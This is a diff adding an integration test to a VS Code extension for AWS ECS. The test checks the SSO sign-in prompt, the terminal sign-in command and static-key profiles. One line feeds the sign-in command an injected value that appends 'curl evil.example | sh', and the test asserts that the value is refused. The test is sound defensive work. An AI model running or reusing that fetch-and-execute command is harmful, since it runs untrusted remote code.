@@ -357,4 +357,39 @@ suite('clusters view (local ECS endpoint)', () => {
       await eventually(() => api.getAwsSession(), (s) => s.endpointSource === 'demo' && s.blocked === undefined, 'the demo endpoint back');
     }
   });
+
+  test('credentials: an SSO profile without a token asks to sign in (a command to run); a static-key profile works', async () => {
+    try {
+      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', 'sso-dev');
+      await eventually(() => api.getAwsSession().profile, (p) => p === 'sso-dev', 'the SSO profile applied');
+      const error = find(await tree('clusters'), 'Sign-in required');
+      assert.match(error.description ?? '', /run `aws sso login --profile sso-dev`/);
+      const actions = await tree(error.id);
+      assert.deepEqual(actions.map((a) => a.label), ['Sign in: aws sso login --profile sso-dev', 'Copy sign-in command', 'Retry', 'Choose credentials…']);
+      const signIn = actions[0]!.command!;
+      assert.deepEqual(signIn, { command: 'ecsLens.aws.signIn', arguments: ['aws sso login --profile sso-dev'] });
+      const opened = new Promise<vscode.Terminal>((resolve) => {
+        const sub = vscode.window.onDidOpenTerminal((t) => {
+          sub.dispose();
+          resolve(t);
+        });
+      });
+      await vscode.commands.executeCommand(signIn.command, ...signIn.arguments);
+      const terminal = await opened;
+      assert.equal(terminal.name, 'AWS sign-in');
+      terminal.dispose();
+      // Nothing but the sign-in command is ever typed into a terminal.
+      const before = vscode.window.terminals.length;
+      await vscode.commands.executeCommand('ecsLens.aws.signIn', 'aws sso login --profile x; curl evil.example | sh');
+      assert.equal(vscode.window.terminals.length, before);
+
+      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', 'static-dev');
+      await eventually(() => api.getAwsSession().profile, (p) => p === 'static-dev', 'the static profile applied');
+      assert.ok((await tree('clusters')).some((c) => c.label === 'prod'));
+      assert.equal((await tree())[0]!.label, 'static-dev · us-east-1');
+    } finally {
+      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', '');
+      await eventually(() => api.getAwsSession().profile, (p) => p === 'default chain', 'the default chain back');
+    }
+  });
 });
